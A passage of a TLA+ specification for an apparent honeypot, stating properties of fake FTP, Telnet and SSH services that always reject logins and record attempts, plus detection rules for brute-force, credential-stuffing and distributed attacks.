SilenceNext ==
    \/ FtpAccept
    \/ FtpReadCommand
    \/ FtpDispatchCommand
    \/ FtpTimeout
    \/ FtpPeerSendFew
    \/ TelAccept
    \/ TelAuthStep
    \/ TelTimeout
    \/ TelPeerSendFew
    \/ ShOpen
    \/ ShLoop
    \/ ShPeerSendFew

SpecSilence ==
    /\ Init
    /\ [][SilenceNext]_vars
    /\ WF_vars(FtpAccept \/ FtpReadCommand \/ FtpDispatchCommand \/ FtpTimeout)
    /\ WF_vars(TelAccept \/ TelAuthStep \/ TelTimeout)
    /\ WF_vars(ShOpen \/ ShLoop)

\* connections served concurrently by one listener
ConcNext ==
    \/ LisStart
    \/ LisSocket
    \/ LisBind
    \/ LisLoopTest
    \/ LisAcceptReturns
    \/ LisAcceptTimeout
    \/ LisSpawn
    \/ ConnArrive
    \/ ConnSend
    \/ ConnBegin
    \/ ConnCommand
    \/ ConnFail

SpecConcurrent == Init /\ [][ConcNext]_vars

\* the thread that runs start()
LisThread ==
    \/ LisStart
    \/ LisSocket
    \/ LisBind
    \/ LisBindFails
    \/ LisLoopTest
    \/ LisAcceptReturns
    \/ LisAcceptTimeout
    \/ LisAcceptError
    \/ LisSpawn

StopNext ==
    \/ LisThread
    \/ LisStopFlag
    \/ LisStopClose
    \/ ConnArrive
    \/ ConnBegin

\* the thread of start() keeps running (an accept wait ends after its 1.0 s
\* at the latest) and a stop() that was called returns
SpecStop ==
    /\ Init
    /\ [][StopNext]_vars
    /\ WF_vars(LisThread)
    /\ WF_vars(LisStopClose)

SpecHTTP == Init /\ [][HttpNext]_vars

HttpResponseNext == HttpHandleLogin

SpecHttpResponse == Init /\ [][HttpResponseNext]_vars

SpecPD == Init /\ [][PdNext]_vars

SpecPDAny == Init /\ [][PdAnyNext]_vars

SpecRecon == Init /\ [][PdReconNext]_vars

SpecSM == Init /\ [][SmNext]_vars

\* the event loop goes on running the callbacks and tasks that are ready
SpecManager ==
    /\ SpecSM
    /\ WF_vars(SmStartService)
    /\ WF_vars(SmTaskRun)
    /\ WF_vars(SmSignalHandler)
    /\ WF_vars(SmRunStartMonitor \/ SmRunWake \/ SmStopService \/ SmStopAllDone)
    /\ WF_vars(SmMonitorStop \/ SmMonitorStart)

SpecAlertRule == Init /\ [][ArNext]_vars

SpecEnricher == Init /\ [][EnNext]_vars

----------------------------------------------------------------------------
(* Properties of the FTP session *)

\* the text of a sent line as the server decodes it, and its two parts
LineText(p) == Strip(Decode(p))

NonBlank(p) == LineText(p) # <<>>

\* case folding of the verb, spelled out for the properties
FoldVerb(tok) == [i \in 1..Len(tok) |-> IF tok[i] \in 97..122 THEN tok[i] - 32 ELSE tok[i]]

LineVerb(p) == FoldVerb(Split1(LineText(p))[1])

LineArg(p) == IF Len(Split1(LineText(p))) > 1 THEN Split1(LineText(p))[2] ELSE <<>>

\* the i-th smallest element of a set of indices
Nth(S, i) == CHOOSE k \in S : Cardinality({j \in S : j <= k}) = i

\* C1: FTP authentication never succeeds: in every reachable state the
\* session's authenticated field is False, "230 User logged in" has not been
\* sent, and the reply to every PASS command (whatever its argument, empty or
\* longer than the buffer limit) is "530 Login incorrect".
C1_FtpAuthNeverSucceeds ==
    /\ ftp_session.authenticated = FALSE
    /\ \A i \in 1..Len(ftp_out) : ftp_out[i] # "230 User logged in\r\n"
    /\ \A i \in 1..Len(ftp_session.commands) :
          ftp_session.commands[i].command = V_PASS
             => /\ i + 1 <= Len(ftp_out)
                /\ ftp_out[i + 1] = "530 Login incorrect\r\n"

\* a PASS whose argument is longer than a thousand bytes has been answered
C1_Witness ==
    \E i \in 1..Len(ftp_session.commands) :
        /\ ftp_session.commands[i].command = V_PASS
        /\ Len(ftp_session.commands[i].argument) > 1000
        /\ ftp_out[i + 1] = "530 Login incorrect\r\n"

\* the session was ended by QUIT, the last of the non-blank lines the peer
\* sent, none of which is longer than maxLen bytes before its CRLF
QuitSession(maxLen) ==
    /\ ftp_pc = "closed"
    /\ ftp_line.kind = "line"
    /\ Len(ftp_sent) >= 1
    /\ \A i \in 1..Len(ftp_sent) :
          /\ NonBlank(ftp_sent[i])
          /\ Len(ftp_sent[i]) <= maxLen
          /\ (LineVerb(ftp_sent[i]) = V_QUIT) <=> (i = Len(ftp_sent))

\* the record holds one command per sent line and one attempt per PASS line
RecordMatchesLines ==
    LET passes == {i \in 1..Len(ftp_sent) : LineVerb(ftp_sent[i]) = V_PASS}
        users(i) == {u \in 1..(i - 1) : LineVerb(ftp_sent[u]) = V_USER}
    IN  /\ Len(ftp_session.commands) = Len(ftp_sent)
        /\ \A i \in 1..Len(ftp_sent) :
              /\ ftp_session.commands[i].command = LineVerb(ftp_sent[i])
              /\ ftp_session.commands[i].argument = LineArg(ftp_sent[i])
        /\ Len(ftp_session.auth_attempts) = Cardinality(passes)
        /\ \A j \in 1..Cardinality(passes) :
              LET i == Nth(passes, j)
                  a == ftp_session.auth_attempts[j]
              IN  /\ a.password = LineArg(ftp_sent[i])
                  /\ a.success = FALSE
                  /\ users(i) # {} => a.username = LineArg(ftp_sent[Nth(users(i), Cardinality(users(i)))])

\* C5 as stated: whenever the peer sent a sequence of command lines ending
\* with QUIT, whatever their length, the finished record holds exactly one
\* command per line in order and one AuthAttempt per PASS line with the
\* username of the most recent USER, the PASS argument and success False.
C5_AnyLength == QuitSession(FtpBufLimit + 8) => RecordMatchesLines

\* C5 amended: the same for command lines of at most 1023 bytes before the
\* CRLF (a line that fits the reader's buffer together with its terminator).
C5_FtpRecordMatchesLines == QuitSession(FtpBufLimit - 1) => RecordMatchesLines

\* USER admin, PASS password123, RETR secret.txt, QUIT: 4 commands, 1 attempt
C5_Witness ==
    /\ QuitSession(FtpBufLimit - 1)
    /\ Len(ftp_sent) = 4
    /\ Len(ftp_session.commands) = 4
    /\ Len(ftp_session.auth_attempts) = 1
    /\ ftp_session.auth_attempts[1].username = <<97, 100, 109, 105, 110>>
    /\ ftp_session.auth_attempts[1].password =
          <<112, 97, 115, 115, 119, 111, 114, 100, 49, 50, 51>>
    /\ ftp_session.commands[3].command = V_RETR

\* the reply the command table prescribes for a verb
TableReply(verb) ==
    CASE verb = V_USER -> "331 Password required\r\n"
      [] verb = V_PASS -> "530 Login incorrect\r\n"
      [] verb = V_SYST -> "215 UNIX Type: L8\r\n"
      [] verb = V_PWD  -> "257 \"/\" is current directory\r\n"
      [] verb = V_TYPE -> "200 Command okay\r\n"
      [] verb = V_CWD  -> "250 Requested file action okay\r\n"
      [] verb = V_RETR -> "550 File not found\r\n"
      [] verb = V_STOR -> "550 File not found\r\n"
      [] verb \in {V_LIST, V_PORT, V_PASV} -> "502 Command not implemented\r\n"
      [] verb = V_QUIT -> "221 Goodbye\r\n"
      [] OTHER -> "500 Command not understood\r\n"

\* C6: the reply to the j-th command line the peer sent (blank lines carry
\* no command) is the table's reply for its verb, matched case-insensitively,
\* whatever its argument and whatever came before it.
C6_FtpReplyIsTableOfVerb ==
    LET lines == {i \in 1..Len(ftp_sent) : NonBlank(ftp_sent[i])}
    IN  \A j \in 1..(Len(ftp_out) - 1) :
           /\ j <= Cardinality(lines)
           /\ ftp_out[j + 1] = TableReply(LineVerb(ftp_sent[Nth(lines, j)]))

\* a lower-case verb with no argument and a verb with an argument have both
\* been answered, the second after the first
C6_Witness ==
    /\ Len(ftp_sent) = 2
    /\ Len(ftp_out) = 3
    /\ ftp_sent[1] = <<112, 97, 115, 115>>
    /\ ftp_out[2] = "530 Login incorrect\r\n"
    /\ ftp_sent[2] = <<115, 121, 115, 116, 32, 110, 111, 119>>
    /\ ftp_out[3] = "215 UNIX Type: L8\r\n"

\* the bytes taken by the _receive_line calls that have returned
Framed == SubSeq(ftp_stream, 1, Len(ftp_stream) - Len(ftp_wire) - Len(ftp_buf))

\* the payload of the last complete frame of b: what lies between the
\* previous CRLF (or the start) and the closing CRLF
LastPayload(b) ==
    LET ends == {j \in 2..(Len(b) - 2) : b[j - 1] = 13 /\ b[j] = 10}
        from == IF ends = {} THEN 1 ELSE (CHOOSE j \in ends : \A k \in ends : k <= j) + 1
    IN  SubSeq(b, from, Len(b) - 2)

\* the last call returned a line and it stopped at a CRLF within the bound
LineFramed ==
    /\ ftp_line.kind = "line"
    /\ Len(Framed) >= 2
    /\ Framed[Len(Framed) - 1] = 13
    /\ Framed[Len(Framed)] = 10
    /\ Len(LastPayload(Framed)) + 2 <= FtpBufLimit

\* C7 as stated: for any CRLF-free payload followed by CRLF, in any
\* chunking, _receive_line returns exactly the payload, terminator stripped.
C7_AnyPayload == LineFramed => ftp_line.value = LastPayload(Framed)

\* C7 amended: for any CRLF-free payload that is valid UTF-8 text (ASCII in
\* the model alphabet) followed by CRLF, in any chunking, _receive_line
\* returns exactly the payload with the terminator stripped.
C7_FtpLineRoundTrip ==
    (LineFramed /\ \A i \in 1..Len(LastPayload(Framed)) : LastPayload(Framed)[i] < 128)
        => ftp_line.value = LastPayload(Framed)

\* "USER admin\r\n" typed one byte at a time came back as "USER admin"
C7_Witness ==
    /\ ftp_stream = <<85, 83, 69, 82, 32, 97, 100, 109, 105, 110, 13, 10>>
    /\ ftp_line.kind = "line"
    /\ ftp_line.value = <<85, 83, 69, 82, 32, 97, 100, 109, 105, 110>>
    /\ ftp_wire = <<>>

\* C8: when the peer sends bytes without a CRLF, the FTP line reader returns
\* a line (not None) and the returned line is at most 1024 characters long.
C8_FtpLineWithinLimit ==
    ftp_line.kind = "line" => Len(ftp_line.value) <= 1024

\* C10: the caller tells a valid line, even an empty one, from the end of the
\* session: a line ends the session only when it is a QUIT command.
C10_EmptyLineIsALine ==
    (ftp_pc = "closed" /\ ftp_line.kind = "line")
        => (ftp_line.value # <<>> /\ LineVerb(ftp_line.value) = V_QUIT)

----------------------------------------------------------------------------
(* Properties of the SSH server interface *)

\* the fingerprint of each offered key, as its hex text: "ab12", "00ff"
FingerprintText(name) ==
    IF name = "ssh-rsa" THEN <<97, 98, 49, 50>> ELSE <<48, 48, 102, 102>>

\* C2: SSH authentication never succeeds: every check_auth_password and
\* check_auth_publickey call returned AUTH_FAILED and appended exactly one
\* AuthAttempt with success False for its username and password or key, so
\* that the attempt list follows the calls one to one, in call order.
C2_SshAuthAlwaysFails ==
    /\ Len(ssh_results) = Len(ssh_calls)
    /\ Len(ssh_auth_attempts) = Len(ssh_calls)
    /\ \A i \in 1..Len(ssh_calls) :
          LET c == ssh_calls[i]
              a == ssh_auth_attempts[i]
          IN  /\ ssh_results[i] = "AUTH_FAILED"
              /\ a.success = FALSE
              /\ a.username = c.username
              /\ a.method = c.method
              /\ c.method = "password" => a.password = c.password
              /\ c.method = "publickey" =>
                    /\ a.key_type = c.key
                    /\ a.key_fingerprint = FingerprintText(c.key)

\* a password attempt with the empty password and a public-key attempt have
\* both been refused, in that order
C2_Witness ==
    /\ Len(ssh_calls) >= 2
    /\ ssh_calls[1].method = "password"
    /\ ssh_calls[1].password = ""
    /\ ssh_calls[2].method = "publickey"
    /\ ssh_results[1] = "AUTH_FAILED"
    /\ ssh_results[2] = "AUTH_FAILED"
    /\ ssh_auth_attempts[2].key_fingerprint = <<97, 98, 49, 50>>

----------------------------------------------------------------------------
(* Properties of the Telnet session *)

\* C3: a Telnet session never gets past authentication: at most 3 attempts
\* are recorded and at most 6 lines read; once the 3rd attempt has failed the
\* final rejection has been sent and the session is Closed; the shell is
\* never entered and no command recorded; and a Closed session stays Closed
\* and reads nothing more from the socket.
C3_TelnetNeverPastAuth ==
    /\ [](/\ tel_pc # "shell"
          /\ tel_session.commands = <<>>
          /\ Len(tel_session.auth_attempts) <= 3
          /\ tel_reads <= 6
          /\ Len(tel_session.auth_attempts) = 3 =>
                /\ tel_pc = "closed"
                /\ tel_out[Len(tel_out)] = "Too many login failures\r\n")
    /\ [][tel_pc = "closed" =>
             /\ tel_pc' = "closed"
             /\ tel_wire' = tel_wire
             /\ tel_buf' = tel_buf
             /\ tel_reads' = tel_reads
             /\ tel_session' = tel_session]_vars

\* the session is Closed after three failed attempts while a seventh line
\* of the peer is still unread
C3_Witness ==
    /\ tel_pc = "closed"
    /\ Len(tel_session.auth_attempts) = 3
    /\ tel_reads = 6
    /\ Len(tel_sent) = 7
    /\ tel_wire # <<>>
    /\ tel_session.end_time # None

\* C4: for each username line and password line pair the peer has submitted
\* and the server has taken from the socket, whatever the two lines hold,
\* the session has an AuthAttempt at the pair's position carrying that
\* username and that password with success False.
C4_TelnetRecordsEveryPair ==
    (tel_line.kind = "line" /\ tel_wire = <<>> /\ tel_buf = <<>> /\ ~Flooded)
        => \A j \in 1..3 :
              2 * j <= Len(tel_sent) =>
                 /\ Len(tel_session.auth_attempts) >= j
                 /\ tel_session.auth_attempts[j].username = tel_sent[2 * j - 1]
                 /\ tel_session.auth_attempts[j].password = tel_sent[2 * j]
                 /\ tel_session.auth_attempts[j].success = FALSE

\* C9: when the peer sends bytes without a CR or LF, the Telnet line reader
\* does not accumulate them without bound: it holds at most 1024 bytes while
\* it waits, and a line it returns is at most 1024 characters long.
C9_TelnetLineWithinLimit ==
    /\ Len(tel_buf) <= 1024
    /\ tel_line.kind = "line" => Len(tel_line.value) <= 1024

----------------------------------------------------------------------------
(* Properties of the HTTP attack detection *)

\* the categories in the order of precedence
AttackOrder ==
    <<"sql_injection", "xss", "path_traversal", "command_injection",
      "webshell_access", "admin_probing", "config_exposure">>

HasAny(patterns, s) == \E k \in 1..Len(patterns) : Contains(s, patterns[k])

\* the signature of a category: the SQL, XSS and command signatures are
\* looked for in the query string, the others in the path, whatever the case
\* of the letters
SignatureMatches(category, request) ==
    LET path  == [i \in 1..Len(request.path) |-> LowerChar(request.path[i])]
        query == [i \in 1..Len(request.query_string) |-> LowerChar(request.query_string[i])]
    IN  CASE category = "sql_injection"     -> HasAny(sql_patterns, query)
          [] category = "xss"               -> HasAny(xss_patterns, query)
          [] category = "path_traversal"    -> HasAny(traversal_patterns, path)
          [] category = "command_injection" -> HasAny(cmd_patterns, query)
          [] category = "webshell_access"   -> HasAny(shell_patterns, path)
          [] category = "admin_probing"     -> HasAny(admin_patterns, path)
          [] category = "config_exposure"   -> HasAny(config_patterns, path)

Earliest(request) ==
    IF \A k \in 1..Len(AttackOrder) : ~SignatureMatches(AttackOrder[k], request)
    THEN NoAttack
    ELSE AttackOrder[CHOOSE k \in 1..Len(AttackOrder) :
                        /\ SignatureMatches(AttackOrder[k], request)
                        /\ \A j \in 1..(k - 1) : ~SignatureMatches(AttackOrder[j], request)]

----------------------------------------------------------------------------
(* Properties of the pattern detector *)

\* the findings of one type among those of a call
OfType(patterns, type) == SelectSeq(patterns, LAMBDA f : f.pattern_type = type)

\* a score stands for the number x / y
ScoreIs(score, x, y) == score.num * y = x * score.den

AttemptCount == Len(pd_session.auth_attempts)

\* C12: analyze_session yields a brute_force finding exactly when the session
\* has more than 5 auth attempts; its severity is critical for more than 50
\* attempts, high for more than 20, medium for more than 10, otherwise low,
\* and its confidence_score is min(100, 2 x attempt count)
C12_BruteForceThresholds ==
    pd_pc = "analyzed" =>
        LET found == OfType(pd_result.patterns, "brute_force")
        IN  /\ pd_result.kind = "returned"
            /\ Len(found) = (IF AttemptCount > 5 THEN 1 ELSE 0)
            /\ \A i \in 1..Len(found) :
                  /\ found[i].severity =
                        (CASE AttemptCount > 50 -> "critical"
                           [] AttemptCount > 20 /\ AttemptCount <= 50 -> "high"
                           [] AttemptCount > 10 /\ AttemptCount <= 20 -> "medium"
                           [] OTHER -> "low")
                  /\ ScoreIs(found[i].confidence_score,
                             IF 2 * AttemptCount < 100 THEN 2 * AttemptCount ELSE 100, 1)

\* a session of 6 attempts has been analyzed: brute_force, low, 12
C12_Witness ==
    /\ pd_pc = "analyzed"
    /\ AttemptCount = 6
    /\ \E i \in 1..Len(pd_result.patterns) :
          /\ pd_result.patterns[i].pattern_type = "brute_force"
          /\ pd_result.patterns[i].severity = "low"
          /\ pd_result.patterns[i].confidence_score = [num |-> 12, den |-> 1]

\* a field of an attempt is there: neither None nor empty
Present(x) == x # None /\ x # <<>>

\* the positions of the attempts with both username and password
FullAttempts ==
    {i \in 1..AttemptCount : /\ Present(pd_session.auth_attempts[i].username)
                             /\ Present(pd_session.auth_attempts[i].password)}

PairAt(i) == <<pd_session.auth_attempts[i].username, pd_session.auth_attempts[i].password>>

UniquePairs == {PairAt(i) : i \in FullAttempts}

Repeats(pair) == Cardinality({i \in FullAttempts : PairAt(i) = pair})

\* C13: analyze_session yields a credential_stuffing finding exactly when the
\* session has at least 10 attempts with both username and password, no pair
\* occurs more than 3 times, and the unique pairs are at least 0.7 of those
\* attempts; the finding has severity high and confidence_score
\* = unique_ratio x 100
C13_CredentialStuffing ==
    pd_pc = "analyzed" =>
        LET found  == OfType(pd_result.patterns, "credential_stuffing")
            total  == Cardinality(FullAttempts)
            unique == Cardinality(UniquePairs)
        IN  /\ pd_result.kind = "returned"
            /\ Len(found) = (IF /\ total >= 10
                                /\ \A pair \in UniquePairs : Repeats(pair) <= 3
                                /\ 10 * unique >= 7 * total
                             THEN 1 ELSE 0)
            /\ \A i \in 1..Len(found) :
                  /\ found[i].severity = "high"
                  /\ ScoreIs(found[i].confidence_score, 100 * unique, total)

\* 12 different pairs, once each, have been analyzed: a credential_stuffing
\* finding of confidence 100
C13_Witness ==
    /\ pd_pc = "analyzed"
    /\ AttemptCount = 12
    /\ Cardinality(UniquePairs) = 12
    /\ \E i \in 1..Len(pd_result.patterns) :
          /\ pd_result.patterns[i].pattern_type = "credential_stuffing"
          /\ pd_result.patterns[i].severity = "high"
          /\ ScoreIs(pd_result.patterns[i].confidence_score, 100, 1)

\* the same 12 pairs 4 times each have been analyzed
C13_FourTimesEach ==
    /\ pd_pc = "analyzed"
    /\ AttemptCount = 48
    /\ Cardinality(UniquePairs) = 12
    /\ \A pair \in UniquePairs : Repeats(pair) = 4
    /\ OfType(pd_result.patterns, "credential_stuffing") = <<>>

\* ten attempts of which only the repeats of one pair stand in the way
C13_RetriesDecide ==
    /\ pd_pc = "analyzed"
    /\ Cardinality(FullAttempts) >= 10
    /\ 10 * Cardinality(UniquePairs) >= 7 * Cardinality(FullAttempts)
    /\ \E pair \in UniquePairs : Repeats(pair) > 3

\* the pairs with both fields that the sessions of the batch tried
BatchPairs ==
    {<<pd_batch[i].auth_attempts[j].username, pd_batch[i].auth_attempts[j].password>> :
        <<i, j>> \in {<<i, j>> \in (1..Len(pd_batch)) \X (1..2) :
                        /\ j <= Len(pd_batch[i].auth_attempts)
                        /\ Present(pd_batch[i].auth_attempts[j].username)
                        /\ Present(pd_batch[i].auth_attempts[j].password)}}

\* the source addresses that tried a pair
IpsUsing(pair) ==
    {pd_batch[i].source_ip :
        i \in {i \in 1..Len(pd_batch) :
                 \E j \in 1..Len(pd_batch[i].auth_attempts) :
                     /\ pd_batch[i].auth_attempts[j].username = pair[1]
                     /\ pd_batch[i].auth_attempts[j].password = pair[2]}}

QualifyingPairs == {pair \in BatchPairs : Cardinality(IpsUsing(pair)) >= 3}

QualifyingIps == UNION {IpsUsing(pair) : pair \in QualifyingPairs}

\* the batch with the sessions i and i + 1 in the other order
Swapped(i) ==
    [k \in 1..Len(pd_batch) |->
        IF k = i THEN pd_batch[i + 1] ELSE IF k = i + 1 THEN pd_batch[i] ELSE pd_batch[k]]

\* what a call found, without the indicators
Verdict(result) ==
    [kind |-> result.kind,
     findings |-> [k \in 1..Len(result.patterns) |->
                      <<result.patterns[k].pattern_type, result.patterns[k].severity,
                        result.patterns[k].occurrence_count,
                        result.patterns[k].confidence_score>>]]

\* C14: over a batch of at least 3 sessions detect_distributed_attack returns
\* one distributed_attack finding of severity critical exactly when some pair
\* was used by at least 3 distinct source IPs, with confidence_score
\* = min(100, 10 x the distinct IPs over all qualifying pairs), and no finding
\* otherwise, whatever the order of the sessions in the batch
C14_DistributedAttack ==
    (pd_pc = "detected" /\ Len(pd_batch) >= 3) =>
        /\ pd_found.kind = "returned"
        /\ Len(pd_found.patterns) = (IF QualifyingPairs # {} THEN 1 ELSE 0)
        /\ \A i \in 1..Len(pd_found.patterns) :
              /\ pd_found.patterns[i].pattern_type = "distributed_attack"
              /\ pd_found.patterns[i].severity = "critical"
              /\ ScoreIs(pd_found.patterns[i].confidence_score,
                         IF 10 * Cardinality(QualifyingIps) < 100
                         THEN 10 * Cardinality(QualifyingIps) ELSE 100, 1)
        /\ \A i \in 1..(Len(pd_batch) - 1) :
              Verdict(detect_distributed_attack(Swapped(i))) = Verdict(pd_found)

\* one pair tried from exactly 3 addresses in 3 sessions: one finding of
\* confidence 30
C14_Witness ==
    /\ pd_pc = "detected"
    /\ Len(pd_batch) = 3
    /\ Cardinality(QualifyingIps) = 3
    /\ Len(pd_found.patterns) = 1
    /\ pd_found.patterns[1].pattern_type = "distributed_attack"
    /\ pd_found.patterns[1].confidence_score = [num |-> 30, den |-> 1]

\* a pair tried from only 2 addresses in 3 sessions: no finding
C14_TwoIps ==
    /\ pd_pc = "detected"
    /\ Len(pd_batch) = 3
    /\ \E pair \in BatchPairs : Cardinality(IpsUsing(pair)) = 2
    /\ pd_found.patterns = <<>>

\* two qualifying pairs whose order in the indicators follows the batch
C14_IndicatorOrder ==
    /\ pd_pc = "detected"
    /\ \E i \in 1..(Len(pd_batch) - 1) :
          /\ Verdict(detect_distributed_attack(Swapped(i))) = Verdict(pd_found)
          /\ detect_distributed_attack(Swapped(i)) # pd_found

\* more than 10 addresses: the confidence stays at 100
C14_Clamped ==
    /\ pd_pc = "detected"
    /\ Cardinality(QualifyingIps) > 10
    /\ Len(pd_found.patterns) = 1
    /\ pd_found.patterns[1].confidence_score = [num |-> 100, den |-> 1]

\* every finding the two calls have returned
ReturnedPatterns ==
    {pd_result.patterns[i] : i \in 1..Len(pd_result.patterns)}
        \cup {pd_found.patterns[i] : i \in 1..Len(pd_found.patterns)}

\* C15: every AttackPattern returned by analyze_session or
\* detect_distributed_attack, for any session data, has a confidence_score
\* within [0, 100] and an occurrence_count of at least 1
C15_ScoreAndCountInRange ==
    \A f \in ReturnedPatterns :
        /\ f.confidence_score.den > 0
        /\ 0 <= f.confidence_score.num
        /\ f.confidence_score.num <= 100 * f.confidence_score.den
        /\ f.occurrence_count >= 1

\* a session in which four tool families or more were seen (30 each) has
\* been analyzed, and the confidence of the finding is 100
C15_Witness ==
    /\ pd_pc = "analyzed"
    /\ \E f \in ReturnedPatterns :
          /\ f.pattern_type = "automated_tools"
          /\ f.occurrence_count >= 4
          /\ f.confidence_score = [num |-> 100, den |-> 1]

\* a call that raised instead of returning
C15_Raised == pd_pc = "analyzed" /\ pd_result.kind = "raised"

\* three findings or more in one result
C15_FourFindings == pd_pc = "analyzed" /\ Len(pd_result.patterns) >= 3

----------------------------------------------------------------------------
(* Properties of the service manager *)

\* C16: when a service's start() has failed (its listener could not bind),
\* _start_service has returned False, the status of the service has running
\* = False and an error, and a service-start failure has been logged
C16_StartFailureReported ==
    \A name \in Services :
        sm_task[name] = "failed" =>
            /\ sm_returns[name] = "False"
            /\ sm_status[name].running = FALSE
            /\ sm_status[name].error # NoError
            /\ <<"service_start_failed", name>> \in sm_events

----------------------------------------------------------------------------
(* Properties of the alert rule *)

\* C17: once should_fire has returned True, a later should_fire call made
\* before cooldown_seconds have passed, with a condition that is true,
\* returns False
C17_CooldownAfterShouldFire ==
    \A i, j \in 1..Len(ar_calls) :
        (/\ i < j
         /\ ar_calls[i].result
         /\ ar_calls[j].condition
         /\ ar_calls[j].at - ar_calls[i].at < cooldown_seconds)
            => ~ar_calls[j].result

----------------------------------------------------------------------------
(* Properties of the enricher *)

\* the calls before the k-th that reached _enrich_impl in the window of the
\* k-th call
AdmittedBefore(k) ==
    {i \in 1..(k - 1) : en_calls[i].impl /\ en_calls[i].window = en_calls[k].window}

\* C18: with rate_limit = N, at most N enrich calls that miss the cache reach
\* _enrich_impl within one 60-second window; every further cache-missing call
\* in that window returns "Rate limit exceeded" without reaching it; and the
\* count starts again once 60 seconds have passed since the window start
C18_RateLimitPerWindow ==
    \A k \in 1..Len(en_calls) :
        LET call == en_calls[k]
        IN  /\ call.impl => ~call.cached
            /\ ~call.cached =>
                  /\ call.window <= call.at
                  /\ call.at - call.window < 60
                  /\ k > 1 =>
                        call.window = (IF call.at - en_calls[k - 1].window >= 60
                                       THEN call.at ELSE en_calls[k - 1].window)
                  /\ Cardinality(AdmittedBefore(k)) <= rate_limit
                  /\ call.impl = (Cardinality(AdmittedBefore(k)) < rate_limit)
                  /\ ~call.impl => call.error = "Rate limit exceeded"
                  /\ call.impl => call.error # "Rate limit exceeded"

\* N calls have gone through in one window, the next in that window was
\* refused, and a call in the following window has gone through again
C18_Witness ==
    /\ Len(en_calls) = rate_limit + 2
    /\ \A k \in 1..rate_limit : en_calls[k].impl /\ en_calls[k].window = en_calls[1].window
    /\ ~en_calls[rate_limit + 1].cached
    /\ en_calls[rate_limit + 1].error = "Rate limit exceeded"
    /\ en_calls[rate_limit + 1].window = en_calls[1].window
    /\ en_calls[rate_limit + 2].impl
    /\ en_calls[rate_limit + 2].window >= en_calls[1].window + 60

(* Properties of the order of one pass of the FTP command loop *)

\* the entry the command list gets for a line of text
EntryOf(text) ==
    LET parts == Split1(Strip(text))
    IN  [command  |-> FoldVerb(parts[1]),
         argument |-> IF Len(parts) > 1 THEN parts[2] ELSE <<>>]

\* a step that took a line off the wire
LineRead ==
    /\ ftp_sent' = ftp_sent
    /\ ftp_wire' # ftp_wire
    /\ ftp_buf' = <<>>

\* a step that answered a command or applied its effect to the session
Dispatched ==
    \/ ftp_out # <<>> /\ ftp_out' # ftp_out
    \/ ftp_session'.auth_attempts # ftp_session.auth_attempts
    \/ ftp_session'.username # ftp_session.username

\* the verbs _handle_ftp_command has a branch for
RecognizedVerbs ==
    {V_USER, V_PASS, V_SYST, V_PWD, V_CWD, V_LIST, V_RETR, V_STOR, V_QUIT,
     V_TYPE, V_PORT, V_PASV}

\* C19: every command line read from the wire, whether its verb is
\* recognized or not, is appended to the session's command list before the
\* command is dispatched and before any reply to it is sent: the step that
\* reads a line with a verb appends its entry and neither sends a reply nor
\* touches the rest of the session; a step that sends a reply or applies a
\* command's effect starts with the command already the last entry of the
\* list and does not change the list; the replies sent never outnumber the
\* commands stored.
C19_StoredBeforeDispatch ==
    /\ [](Len(ftp_out) <= Len(ftp_session.commands) + 1)
    /\ [][LineRead /\ Strip(ftp_line'.value) # <<>> =>
             /\ ftp_session'.commands =
                   Append(ftp_session.commands, EntryOf(ftp_line'.value))
             /\ ftp_out' = ftp_out
             /\ ftp_session'.auth_attempts = ftp_session.auth_attempts
             /\ ftp_session'.username = ftp_session.username]_vars
    /\ [][Dispatched =>
             /\ ftp_session.commands # <<>>
             /\ ftp_session.commands[Len(ftp_session.commands)] = EntryOf(ftp_line.value)
             /\ Len(ftp_out) = Len(ftp_session.commands)
             /\ ftp_session'.commands = ftp_session.commands]_vars

\* a command with an unrecognized verb is in the list while its reply has
\* not been sent yet, after an earlier command was stored and answered
C19_Witness ==
    /\ ftp_pc = "dispatch"
    /\ Len(ftp_session.commands) = 2
    /\ ftp_session.commands[2].command \notin RecognizedVerbs
    /\ ftp_session.commands[2] = EntryOf(ftp_line.value)
    /\ Len(ftp_out) = 2

(* Properties of QUIT *)

\* the last line the handler read has the verb QUIT, in any case
QuitRead ==
    /\ ftp_line.kind = "line"
    /\ Strip(ftp_line.value) # <<>>
    /\ EntryOf(ftp_line.value).command = <<81, 85, 73, 84>>

\* C20: after an FTP session receives QUIT it replies "221 Goodbye" and goes
\* to Closed: QUIT is the last command of the record, "221 Goodbye" the last
\* reply sent, the connection is closed and the end of the session stamped;
\* from then on no line of the peer is taken off the wire, recorded or
\* answered.
C20_QuitCloses ==
    /\ [](QuitRead =>
             /\ ftp_pc = "closed"
             /\ ftp_out[Len(ftp_out)] = "221 Goodbye\r\n"
             /\ ftp_session.commands[Len(ftp_session.commands)] = EntryOf(ftp_line.value)
             /\ Len(ftp_out) = Len(ftp_session.commands) + 1
             /\ ftp_session.end_time # None)
    /\ [][QuitRead =>
             /\ ftp_pc' = "closed"
             /\ ftp_wire' = ftp_wire
             /\ ftp_buf' = ftp_buf
             /\ ftp_line' = ftp_line
             /\ ftp_out' = ftp_out
             /\ ftp_session' = ftp_session]_vars

\* the session was closed by a QUIT in lower case while a later line of the
\* peer is still on the wire
C20_Witness ==
    /\ QuitRead
    /\ ftp_line.value = <<113, 117, 105, 116>>
    /\ ftp_pc = "closed"
    /\ ftp_wire # <<>>
    /\ ftp_out[Len(ftp_out)] = "221 Goodbye\r\n"

(* Properties of the user name of an FTP attempt *)

\* the positions of the PASS commands of the record, and of the USER
\* commands before position i
PassAt == {i \in 1..Len(ftp_session.commands) : ftp_session.commands[i].command = <<80, 65, 83, 83>>}

UsersBefore(i) == {u \in 1..(i - 1) : ftp_session.commands[u].command = <<85, 83, 69, 82>>}

\* C21: a PASS received in a session where no USER was sent before it is
\* logged as an AuthAttempt whose username is "anonymous"; otherwise the
\* attempt carries the name of the most recent USER.
C21_PassWithoutUserIsAnonymous ==
    \A j \in 1..Len(ftp_session.auth_attempts) :
        j <= Cardinality(PassAt) =>
            LET i == Nth(PassAt, j)
                a == ftp_session.auth_attempts[j]
            IN  IF UsersBefore(i) = {}
                THEN a.username = <<97, 110, 111, 110, 121, 109, 111, 117, 115>>
                ELSE a.username =
                        ftp_session.commands[Nth(UsersBefore(i), Cardinality(UsersBefore(i)))].argument

(* Properties of the SSH fake shell *)

\* command starts with the prefix p, whatever the case of its letters
HasPrefix(command, p) ==
    /\ Len(command) >= Len(p)
    /\ \A i \in 1..Len(p) : (IF command[i] \in 65..90 THEN command[i] + 32 ELSE command[i]) = p[i]

IsTableKey(command) == \E e \in FAKE_RESPONSES : e.key = command

